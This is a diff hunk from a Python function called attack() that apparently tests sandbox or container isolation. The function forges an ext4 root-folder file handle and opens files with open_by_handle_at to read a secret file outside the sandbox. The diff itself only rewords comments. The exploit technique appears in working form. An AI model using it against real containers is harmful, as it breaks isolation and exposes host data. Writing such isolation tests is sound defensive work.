@@ -12,9 +12,9 @@ def attack():
     try:
         syscall("name_to_handle_at", AT_FDCWD, b"@SECRET@", handle, ctypes.byref(mount), 0)
     except OSError:
-        # a made-up handle of the root folder of an ext4 disk
+        # an invented handle for the root folder of an ext4 disk
         handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
-    # the handle refers to the disk of the working folder
+    # the handle refers to the disk of the current folder
     os.chdir(os.path.dirname("@SECRET@") if os.path.exists("@SECRET@") else "/")
     file = syscall("open_by_handle_at", AT_FDCWD, handle, os.O_RDONLY)
     leaked(os.read(file, 100))
